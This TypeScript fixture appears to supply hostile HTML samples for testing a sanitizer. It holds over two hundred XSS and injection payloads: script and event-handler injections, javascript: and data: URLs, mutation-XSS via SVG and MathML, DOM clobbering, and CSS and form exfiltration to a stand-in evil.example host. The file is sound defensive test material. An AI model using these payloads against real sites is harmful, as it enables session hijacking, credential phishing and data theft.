/**
 * Markup that wants to act in our page. It succeeds when it calls `wasRun`, when anything asks `evil.example`, when a part of
 * it looks or behaves like the app's own, or when the words around it are lost.
 */
export interface HostileMarkup {
  what: string
  html: string
  /** It never ends what it begins, and takes the words after it along. */
  swallows?: boolean
}

const evil = 'https://evil.example'
const page = '<script>parent.wasRun()</script>'

const scripts: Record<string, string> = {
  'a script': '<script>wasRun()</script>',
  'a script in capitals': '<SCRIPT>wasRun()</SCRIPT>',
  'a script from elsewhere': `<script src="${evil}/x.js"></script>`,
  'a script with its text in the address': '<script src="data:text/javascript,wasRun()"></script>',
  'a module': '<script type="module">wasRun()</script>',
  'an import map': `<script type="importmap">{"imports":{"react":"${evil}/r.js"}}</script>`,
  'rules to fetch ahead': `<script type="speculationrules">{"prefetch":[{"urls":["${evil}/"]}]}</script>`,
  'a script inside a script': '<scr<script>ipt>wasRun()</scr</script>ipt>',
  'a script with a slash': '<script/x>wasRun()</script>',
  'a script with a zero in it': '<scr\u0000ipt>wasRun()</scr\u0000ipt>',
  'a script closed with a space': '<script>wasRun()</script >',
  'a script after a broken tag': '<<script>wasRun()//<</script>',
  'a script behind a quote': '"><script>wasRun()</script>',
  'a script behind an attribute': "' autofocus><script>wasRun()</script>",
  'a script in full-width letters': '＜script＞wasRun()＜/script＞<script>wasRun()</script>',
  'a script for a template': '{{constructor.constructor("wasRun()")()}}<script>wasRun()</script>',
  'a script without scripts': '<noscript><script>wasRun()</script></noscript>',
}

const handlers: Record<string, string> = {
  'a broken picture': '<img src="x:x" onerror="wasRun()">',
  'a handler without quotes': '<img src=x:x onerror=wasRun()>',
  'a handler after a slash': '<img/src="x:x"/onerror=wasRun()>',
  'a handler after a line feed': '<img src="x:x"\nonerror\n=\n"wasRun()">',
  'a handler after a form feed': '<img src="x:x"\fonerror="wasRun()">',
  'a handler in mixed letters': '<iMg SrC="x:x" OnErRoR="wasRun()">',
  'a handler in backticks': '<img src=`x:x`onerror=wasRun()>',
  'a handler behind a quote in the alt': '<img alt="`><img src=x:x onerror=wasRun()>" src="x:x">',
  'a handler written with entities': '<img src="x:x" onerror="&#119;asRun&#40;&#41;">',
  'letters written as numbers': '<img src="x:x" &#111;nerror="wasRun()" o\u006eerror="wasRun()">',
  'a zero in the handler': '<img src="x:x" one\u0000rror="wasRun()">',
  'two sources': '<img src="x:x" src="x" onerror="wasRun()" onload="wasRun()">',
  'a source set': `<img srcset="${evil}/a.png 1x, x:x 2x" onerror="wasRun()">`,
  'an image by its other name': '<image src="x:x" onerror="wasRun()">',
  'a picture with sources': `<picture><source srcset="${evil}/a.png"><img onerror="wasRun()"></picture>`,
  'a body that loads': '<body onload="wasRun()" onpageshow="wasRun()">',
  'a document in the document': '<html onclick="wasRun()"><head></head><body onfocus="wasRun()">',
  'an open list': '<details open ontoggle="wasRun()"><summary>x</summary></details>',
  'a field that takes the focus': '<input autofocus onfocus="wasRun()">',
  'a thing that takes the focus': '<div tabindex="0" autofocus onfocus="wasRun()">x</div>',
  'a thing that can be edited': '<p contenteditable autofocus onfocus="wasRun()">x</p>',
  'a key that clicks': '<p accesskey="x" onclick="wasRun()">x</p>',
  'a moving line': '<marquee onstart="wasRun()" onfinish="wasRun()">x</marquee>',
  'an animation that starts': '<p style="animation: shimmer 1ms" onanimationstart="wasRun()">x</p>',
  'a transition that runs': '<p style="transition: all 1ms" ontransitionrun="wasRun()">x</p>',
  'a video': '<video src="x:x" onerror="wasRun()"></video>',
  'a video with sources': `<video poster="${evil}/p.png"><source src="x:x" onerror="wasRun()"></video>`,
  'a sound': `<audio autoplay src="${evil}/a.mp3" onerror="wasRun()" onloadstart="wasRun()"></audio>`,
  captions: `<video autoplay><track default src="${evil}/t.vtt" oncuechange="wasRun()"></video>`,
  'a pointer that comes': '<p onpointerenter="wasRun()" onmouseover="wasRun()" ontouchstart="wasRun()">x</p>',
  'a wheel that turns': '<p onwheel="wasRun()" onscroll="wasRun()" onscrollend="wasRun()">x</p>',
  'a popup that opens':
    '<button popovertarget="pop">x</button><div popover id="pop" onbeforetoggle="wasRun()">x</div>',
  'a command': '<button command="show-modal" commandfor="root">x</button>',
  'hidden until found': '<p hidden="until-found" onbeforematch="wasRun()">x</p>',
  'a sheet that loads': `<link rel="stylesheet" href="${evil}/x.css" onload="wasRun()" onerror="wasRun()">`,
  'an old table': `<table background="${evil}/t.png" onclick="wasRun()"><tr><td background="javascript:wasRun()">x</td></tr></table>`,
}

const addresses: Record<string, string> = {
  'a script address': '<a href="javascript:wasRun()">bait</a>',
  'a script address with a tab': '<a href="java\tscript:wasRun()">bait</a>',
  'a script address with a line feed': '<a href="java\nscript:wasRun()">bait</a>',
  'a script address after blanks': '<a href="  \t javascript:wasRun()">bait</a>',
  'a script address after a control sign': '<a href="&#1;javascript:wasRun()">bait</a>',
  'a script address in other letters': '<a href="&#106;avascript&colon;wasRun()">bait</a>',
  'a script address in long entities':
    '<a href="&#0000106&#0000097&#0000118&#0000097script:wasRun()">bait</a>',
  'a script address in hex': '<a href="&#x6A;&#x61;vascript:wasRun()">bait</a>',
  'a script address with entities for blanks': '<a href="jav&Tab;ascr&NewLine;ipt&colon;wasRun()">bait</a>',
  'a script address in capitals': '<a href="JAVASCRIPT:wasRun()">bait</a>',
  'a script address with a comment': '<a href="javascript://%0awasRun()">bait</a>',
  'a script address with a host': '<a href="javascript://champa.example/%0awasRun()">bait</a>',
  'a script address in vb': '<a href="vbscript:wasRun()">bait</a>',
  'a page in the address': `<a href="data:text/html,${page}">bait</a>`,
  'a page in the address, in letters':
    '<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQud2FzUnVuKCk8L3NjcmlwdD4=">bait</a>',
  'a drawing in the address': '<a href="data:image/svg+xml,<svg onload=wasRun()>">bait</a>',
  'a blob': '<a href="blob:https://champa.example/0">bait</a>',
  'a file': '<a href="file:///etc/passwd">bait</a>',
  'another app': '<a href="intent://pay#Intent;scheme=bank;end">bait</a>',
  'the source of a page': '<a href="view-source:javascript:wasRun()">bait</a>',
  'a handler on a link': '<a href="#" onclick="wasRun()">bait</a>',
  'a link that is told of': '<a href="https://elsewhere.example/" ping="https://evil.example/ping">bait</a>',
  'a link that downloads': '<a href="data:text/html,x" download="slip.html">bait</a>',
  'a link in this window': '<a href="https://elsewhere.example/" target="_self">bait</a>',
  'a link in the frame above': '<a href="https://elsewhere.example/" target="_top" rel="opener">bait</a>',
  'a link into a named window': '<a href="https://elsewhere.example/" target="champa">bait</a>',
  'a host behind a name': '<a href="https://champa.example@evil.example/">bait</a>',
  'an area of a map':
    '<img usemap="#m" alt=""><map name="m"><area shape="default" href="javascript:wasRun()"></map>',
  'a picture map': `<a href="javascript:wasRun()"><img ismap alt="bait" src="${evil}/m.png"></a>`,
  'a link in old letters': '<a xlink:href="javascript:wasRun()" href="javascript:wasRun()">bait</a>',
}

const frames: Record<string, string> = {
  'a frame': `<iframe src="${evil}/"></iframe>`,
  'a frame with its page': `<iframe srcdoc="${page}"></iframe>`,
  'a frame with its page in entities':
    '<iframe srcdoc="&lt;script&gt;parent.wasRun()&lt;/script&gt;"></iframe>',
  'a framed script address': '<iframe src="javascript:parent.wasRun()"></iframe>',
  'a framed page': `<iframe src="data:text/html,${page}"></iframe>`,
  'a set of frames': '<frameset onload="wasRun()"><frame src="javascript:parent.wasRun()"></frameset>',
  'a fenced frame': `<fencedframe src="${evil}/"></fencedframe>`,
  'a portal': `<portal src="${evil}/" onload="wasRun()"></portal>`,
  'an object': `<object data="data:text/html,${page}"></object>`,
  'an object with a script address': '<object data="javascript:wasRun()"></object>',
  'an object with a parameter': '<object><param name="src" value="javascript:wasRun()"></object>',
  'an embedded page': '<embed src="javascript:wasRun()">',
  'an embedded drawing': '<embed type="image/svg+xml" src="data:image/svg+xml,<svg onload=parent.wasRun()>">',
  'an applet': '<applet code="javascript:wasRun()"></applet>',
  'a layer': `<layer src="${evil}/"></layer><ilayer src="${evil}/"></ilayer>`,
  'a page that moves on': '<meta http-equiv="refresh" content="0;url=javascript:wasRun()">',
  'a page that moves elsewhere': `<meta http-equiv="refresh" content="0;url=${evil}/">`,
  'a policy of its own': `<meta http-equiv="Content-Security-Policy" content="script-src *; report-uri ${evil}/">`,
  'a cookie': '<meta http-equiv="set-cookie" content="token=1"><meta name="referrer" content="unsafe-url">',
  'another base': `<base href="${evil}/"><base target="_top">`,
  'a link fetched ahead': `<link rel="prefetch" href="${evil}/"><link rel="dns-prefetch" href="//evil.example">`,
  'a page drawn ahead': `<link rel="prerender" href="${evil}/"><link rel="preconnect" href="${evil}">`,
  'a manifest': `<link rel="manifest" href="${evil}/m.webmanifest">`,
  'an icon': `<link rel="icon" href="${evil}/i.png">`,
  'a module fetched ahead': `<link rel="modulepreload" href="${evil}/x.js">`,
  'an imported page': `<link rel="import" href="data:text/html,${page}">`,
}

const forms: Record<string, string> = {
  'a form': `<form action="${evil}/"><input name="password" type="password"><button>Log in</button></form>`,
  'a form that sends itself': `<form action="${evil}/" id="f"><input autofocus onfocus="form.submit()"></form>`,
  'a button for another form': '<button form="login" formaction="javascript:wasRun()">x</button>',
  'a picture that sends': `<form><input type="image" src="${evil}/b.png" formaction="javascript:wasRun()"></form>`,
  'a form with a script address': '<form action="javascript:wasRun()"><input type="submit" value="x"></form>',
  'a key maker': '<keygen autofocus onfocus="wasRun()"><isindex action="javascript:wasRun()">',
  'a choice': '<select autofocus onfocus="wasRun()"><option>x</option></select>',
  'a writing place': '<textarea autofocus onfocus="wasRun()">x</textarea>',
  'a dialog': `<dialog open><form method="dialog"><input name="otp"></form>Your session is over</dialog>`,
  'a field that is filled in': `<form action="${evil}/"><input autocomplete="current-password" name="p"></form>`,
  'a label that clicks': '<label for="agree">x<input type="checkbox" id="agree" onchange="wasRun()"></label>',
  'an output': '<form oninput="wasRun()"><output>x</output><input type="range" autofocus></form>',
  'a list of data': '<input list="d"><datalist id="d"><option value="x" label="x"></datalist>',
}

const styles: Record<string, string> = {
  'styles that hide': '<style>body{display:none}</style>',
  'styles that hide, later': '<p>x</p><style>@keyframes k{} html{display:none!important}</style>',
  'styles from elsewhere': `<style>@import url(${evil}/x.css);</style>`,
  'styles that tell': `<style>input[value^="a"]{background:url(${evil}/a)}</style>`,
  'a font that tells': `<style>@font-face{font-family:x;src:url(${evil}/f);unicode-range:U+41}p{font-family:x}</style>`,
  'a style that lies over all': '<div style="position:fixed;inset:0;z-index:9999;background:#fff">x</div>',
  'a style with a picture': `<p style="background:url(${evil}/p.png)">x</p>`,
  'a style with a list mark': `<ul style="list-style-image:url(${evil}/l.png)"><li>x</li></ul>`,
  'a style with an escape': `<p style="background:\\75rl(${evil}/p.png)">x</p>`,
  'a style in an old tongue': '<p style="width:expression(wasRun());-moz-binding:url(x#x)">x</p>',
  'a style that ends early': '<style></style><img src="x:x" onerror="wasRun()"><style></style>',
  'a style with a comment': '<style><!--</style><img src="x:x" onerror="wasRun()">--></style>',
  'our own classes': '<div class="scrim popup dialog">x</div>',
  'our own marks': '<p data-theme="day" data-gone data-open role="alert" aria-live="assertive">x</p>',
  'a part that poses as a button': '<span role="button" aria-label="Withdraw" tabindex="0">x</span>',
  'words for screen readers alone': '<p aria-hidden="true" title="x" aria-describedby="root">x</p>',
}

const clobbering: Record<string, string> = {
  'names that hide ours': '<form name="body"><img name="getElementById" id="root"></form>',
  'the root again': '<div id="root"></div><main id="main"></main>',
  'names in a chain': '<a id="config"></a><a id="config" name="url" href="https://evil.example/x.js">x</a>',
  'attributes hidden by a name':
    '<form onclick="wasRun()"><input name="attributes"><input name="attributes"></form>',
  'children hidden by a name': '<form><input name="childNodes"><img src="x:x" onerror="wasRun()"></form>',
  'a parent hidden by a name': '<form><input name="parentNode"><input name="removeChild">x</form>',
  'a node name hidden by a name': '<form><input name="nodeName"><input name="namespaceURI">x</form>',
  'a document hidden by names': '<img name="currentScript"><img name="cookie"><embed name="defaultView">',
  'a window of a name':
    '<iframe name="wallet"></iframe><a target="wallet" href="https://elsewhere.example/">bait</a>',
  'a list hidden by ids': '<a id="x"><a id="x" name="toString">x</a>',
  'a place in the page': '<p slot="x" part="x" is="x-y" itemid="x" exportparts="x">x</p>',
}

const foreign: Record<string, string> = {
  'drawn markup': '<svg onload="wasRun()"><circle r="9"/></svg>',
  'a script in a drawing': '<svg><script>wasRun()</script></svg>',
  'a script linked in a drawing': '<svg><script href="data:text/javascript,wasRun()"/></svg>',
  'an animated drawing': '<svg><animate onbegin="wasRun()" attributeName="x" dur="1s"/></svg>',
  'a link that a drawing sets':
    '<svg><a><animate attributeName="href" values="javascript:wasRun()"/><text y="9">bait</text></a></svg>',
  'a link in a drawing': '<svg><a xlink:href="javascript:wasRun()"><text y="9">bait</text></a></svg>',
  'a drawing used again': `<svg><use href="${evil}/x.svg#x"/><use href="data:image/svg+xml,<svg id='x'/>#x"/></svg>`,
  'a picture in a drawing': `<svg><image href="${evil}/x.png" onerror="wasRun()"/></svg>`,
  'styles in a drawing': '<svg><style>*{display:none}</style></svg>',
  'markup in a drawing': '<svg><foreignObject><img src="x:x" onerror="wasRun()"></foreignObject></svg>',
  'a title in a drawing': '<svg><title><img src="x:x" onerror="wasRun()"></title></svg>',
  'a description in a drawing': '<svg><desc><img src="x:x" onerror="wasRun()"></desc></svg>',
  'a filter in a drawing': `<svg><filter><feImage href="${evil}/x.png"/></filter></svg>`,
  'a handler in a drawing': '<svg><handler type="text/javascript" ev:event="load">wasRun()</handler></svg>',
  'a drawing that sets': '<svg><set attributeName="onmouseover" to="wasRun()"/></svg>',
  'a paragraph that leaves a drawing': '<svg></p><style><a title="</style><img src=x:x onerror=wasRun()>">',
  'a list that leaves a drawing': '<svg><li><style><img src=x:x onerror=wasRun()></style></svg>',
  formulas:
    '<math><mtext><table><mglyph><style><img src=x:x onerror="wasRun()"></style></mglyph></table></mtext></math>',
  'a formula that links': '<math href="javascript:wasRun()"><mi>bait</mi></math>',
  'a formula with actions':
    '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:wasRun()">bait</maction></math>',
  'a note in a formula':
    '<math><annotation-xml encoding="text/html"><img src="x:x" onerror="wasRun()"></annotation-xml></math>',
  'a mark in a formula': '<math><mi><style></mi><img src="x:x" onerror="wasRun()"></style></math>',
  'a formula in a drawing': '<svg><math><mtext><script>wasRun()</script></mtext></math></svg>',
  'a drawing in a formula':
    '<math><mtext><svg><style><img src=x:x onerror=wasRun()></style></svg></mtext></math>',
  'character data in a drawing': '<svg><![CDATA[><img src="x:x" onerror="wasRun()">]]></svg>',
}

const parsing: Record<string, string> = {
  'a comment that ends early': '<!--><img src="x:x" onerror="wasRun()">-->',
  'a comment that ends oddly': '<!--x--!><img src="x:x" onerror="wasRun()">-->',
  'a comment of an old browser': '<!--[if IE]><script>wasRun()</script><![endif]-->',
  'a comment with a dash': '<!---><script>wasRun()</script>-->',
  'an order to the parser': '<?xml-stylesheet href="javascript:wasRun()"?><img src="x:x" onerror="wasRun()">',
  'a type of document':
    '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><img src="x:x" onerror="wasRun()">',
  'character data': '<![CDATA[<script>wasRun()</script>]]><img src="x:x" onerror="wasRun()">',
  'a template': '<template><img src="x:x" onerror="wasRun()"></template>',
  'a template with a shadow':
    '<div><template shadowrootmode="open"><script>wasRun()</script><slot></slot></template></div>',
  'a title in no script': '<noscript><p title="</noscript><img src=x:x onerror=wasRun()>"></p></noscript>',
  'a page without frames': '<noframes><p title="</noframes><img src=x:x onerror=wasRun()>"></noframes>',
  'an old example': '<xmp><p title="</xmp><img src=x:x onerror=wasRun()>"></xmp>',
  'a page without plug-ins': '<noembed><img title="</noembed><img src=x:x onerror=wasRun()>"></noembed>',
  'a writing place that ends early': '<textarea></textarea><img src="x:x" onerror="wasRun()">',
  'a title': '<title><a title="</title><img src=x:x onerror=wasRun()>"></title>',
  'a select that is left': '<select><template><img src="x:x" onerror="wasRun()"></template></select>',
  'a table that throws out': '<table><img src="x:x" onerror="wasRun()"><tr><td>x</td></tr></table>',
  'a caption that throws out':
    '<table><caption><svg><style><img src=x:x onerror=wasRun()></style></svg></caption></table>',
  'links in links': '<a href="#"><table><a href="javascript:wasRun()">bait</a></table></a>',
  'marks in the wrong order': '<b><p><i></b><img src="x:x" onerror="wasRun()"></i></p>',
  'a name with a colon': '<x:script xmlns:x="http://www.w3.org/1999/xhtml">wasRun()</x:script>',
  'an element of its own':
    '<x-champa onclick="wasRun()" is="x">x</x-champa><custom onload=wasRun()>x</custom>',
  'attributes without end': `<p ${'x="1" '.repeat(3000)}onclick="wasRun()">x</p>`,
  'a quote that never was': '<p title=\'"\' onclick=wasRun() x="\'">x</p>',
  'a tag in seven bits': '+ADw-script+AD4-wasRun()+ADw-/script+AD4-',
  'a tag that is escaped': '&lt;img src=x:x onerror=wasRun()&gt;',
  'a tag that is escaped twice': '&amp;lt;script&amp;gt;wasRun()&amp;lt;/script&amp;gt;',
}

const pictures: Record<string, string> = {
  'a picture that tells': `<img src="${evil}/beacon.gif" alt="A picture">`,
  'a picture that tells who': `<img src="//evil.example/beacon.gif?member=7" width="1" height="1" alt="">`,
  'a picture with a backslash': '<img src="\\\\evil.example/x.png" alt="">',
  'a picture in entities': '<img src="https&colon;//evil.example/x.png" alt="">',
  'a picture that acts': '<img src="/api/bonus/clear" alt="">',
  'a picture that acts by a detour': '<img src="/art/..%2f../art/../api/refund/receive" alt="">',
  'a picture as a page': '<img src="data:text/html,<script>wasRun()</script>" alt="">',
  'a drawing as a picture': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='wasRun()'><image href='${evil}/x.png'/></svg>" alt="">`,
  'a lazy picture': `<img loading="lazy" src="${evil}/x.png" crossorigin referrerpolicy="unsafe-url" alt="">`,
  'a picture from an old tongue': `<img lowsrc="${evil}/x.png" dynsrc="${evil}/x.png" src="x:x" alt="">`,
  'a huge picture': '<img src="x:x" width="99999" height="99999" alt="">',
}

const disguises: Record<string, string> = {
  'letters turned around': '<p>\u202egnp.pils\u202c</p>',
  'letters turned around in entities': '<p>&#x202e;gnp.pils&#x202c;&#8294;&#8297;</p>',
  'words turned around': '<bdo dir="rtl">x</bdo><bdi dir="rtl">x</bdi><p dir="rtl">x</p>',
  'marks piled upon a letter': `<p>x${'\u0e49\u0301'.repeat(400)}</p>`,
  'marks piled in Lao': `<p>ກ${'\u0eb4\u0ec9'.repeat(400)}</p>`,
  'a word without end': `<p>${'ก'.repeat(5000)}</p>`,
  'a word of zero width': `<p>${'\u200b\u200d\ufeff'.repeat(1000)}x</p>`,
  'a nest': `${'<div>'.repeat(400)}x${'</div>'.repeat(400)}`,
  'a nest of marks': `${'<b><i>'.repeat(600)}x${'</i></b>'.repeat(600)}`,
  'a nest of lists': `${'<ul><li>'.repeat(300)}x${'</li></ul>'.repeat(300)}`,
  'a wide table': '<table><tr><td colspan="1000" rowspan="65534">x</td></tr></table>',
  'a list that counts': '<ol start="99999999999" reversed type="I"><li value="-5">x</li></ol>',
  'lines without end': `<p>${'<br>'.repeat(2000)}</p>`,
}

const swallowing: Record<string, string> = {
  'a page inside a drawing': `<svg><foreignObject><iframe srcdoc="${page}">`,
  'a nest of wrong tags':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror="wasRun()">',
  'an unfinished title in no script': '<noscript><p title="</noscript><img src=x:x onerror=wasRun()>">',
  'an unfinished picture': `<img src="${evil}/steal?`,
  'an unfinished link': `<a href="${evil}/steal?`,
  'an unfinished comment': '<!-- x',
  'an unfinished script': '<script>wasRun()',
  'an unfinished style': '<style>@import"https://evil.example/x.css',
  'an unfinished writing place': `<form action="${evil}/"><textarea name="page">`,
  'an unfinished choice': '<select><option onclick="wasRun()">',
  'an unfinished template': '<template><script>wasRun()</script>',
  'an unfinished frame': `<iframe srcdoc="${page}`,
  'plain text to the end': '<plaintext onclick="wasRun()">',
  'an unfinished example': '<xmp><script>wasRun()</script>',
  'an unfinished tag': '<img src="x:x" onerror="wasRun()"',
  'an unfinished title of the page': '<title><img src="x:x" onerror="wasRun()">',
  'a nest without end': '<div>'.repeat(5000),
  'a nest of drawings without end': '<svg><g>'.repeat(1000),
}

const list = (table: Record<string, string>, more: Partial<HostileMarkup> = {}): HostileMarkup[] =>
  Object.entries(table).map(([what, html]) => ({ what, html, ...more }))

export const hostileMarkup: readonly HostileMarkup[] = [
  ...[scripts, handlers, addresses, frames, forms, styles].flatMap((table) => list(table)),
  ...[clobbering, foreign, parsing, pictures, disguises].flatMap((table) => list(table)),
  ...list(swallowing, { swallows: true }),
]

/** Puts the sample between two paragraphs that must be shown whatever it contains. */
export const surround = ({ html }: HostileMarkup): string => `<p>Before</p>${html}<p>after</p>`
